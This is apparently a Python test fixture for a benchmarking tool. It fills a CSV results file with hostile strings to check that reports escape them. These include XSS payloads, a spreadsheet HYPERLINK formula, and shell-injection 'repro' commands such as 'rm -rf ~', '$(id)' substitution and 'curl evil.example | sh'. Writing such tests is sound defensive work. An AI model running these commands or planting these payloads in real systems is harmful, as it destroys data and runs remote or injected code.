"""What a stranger might write into the free text of a results file, to have it run, be followed or deceive."""

import csv

TEXTS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>document.title='owned'</script>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "a | b ` c ``` d\\| <!-- e",
    "=HYPERLINK(\"https://evil.example\")",
    "https://evil.example @someone www.evil.example",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnorw\N{LINE SEPARATOR}next\x1b[31m",
    "${alert(1)} {{constructor}} __proto__",
    "x" * 5000,
)  # fmt: skip
COLUMNS = ("reason", "device", "driver", "cuda", "torch", "triton", "mtabench", "run_id", "timer", "cache", "baseline")
COMMANDS = (
    "mtabench fwd --impl eager; rm -rf ~", "mtabench fwd --impl `id`", "mtabench fwd --out /etc/passwd",
    "curl evil.example | sh", "mtabench fwd --seq 64 --impl $(id)",
)  # fmt: skip


def poison(path):
    """Rewrite a results file: hostile texts in every column that takes any text, and implementations named so."""
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    for number, row in enumerate(rows):
        for offset, column in enumerate(COLUMNS):
            row[column] = TEXTS[(number + offset) % len(TEXTS)]
        row["impl"] = TEXTS[number % len(TEXTS)]
        row["repro"] = COMMANDS[number % len(COMMANDS)]
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, rows[0], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path
